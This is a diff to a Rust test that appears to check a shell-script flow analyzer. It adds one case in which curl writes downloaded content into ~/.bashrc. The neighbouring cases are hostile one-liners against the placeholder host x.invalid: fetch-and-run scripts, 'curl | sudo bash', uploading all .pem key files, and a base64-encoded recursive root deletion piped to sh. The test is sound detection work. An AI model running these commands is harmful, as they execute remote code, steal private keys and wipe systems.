@@ -60,6 +60,7 @@ fn origins_reach_their_destinations() {
         ("a.sh", "curl -sO https://x.invalid/a.sh; chmod +x a.sh; ./a.sh", "net https://x.invalid/a.sh -> exec ./a.sh"),
         ("a.sh", "python3 - <<'E'\nimport os\nos.system('id')\nE\ncurl -s https://x.invalid | sudo -E bash -s -- --y", "net https://x.invalid -> eval Shell"),
         ("a.sh", "echo 'cm0gLXJmIC8gLS1uby1wcmVzZXJ2ZS1yb290' | base64 -d | xargs -I{} sh -c {}", "decoded base64 -> eval Shell"),
+        ("a.sh", "curl -s https://x.invalid/a > ~/.bashrc 2>&1", "net https://x.invalid/a -> file ~/.bashrc"),
         ("a.sh", "source <(curl -s https://x.invalid)", "net https://x.invalid -> eval Shell"),
         ("a.sh", "find ~ -name '*.pem' -exec curl -F f=@{} https://x.invalid \\;", "file {} -> net https://x.invalid"),
     ];
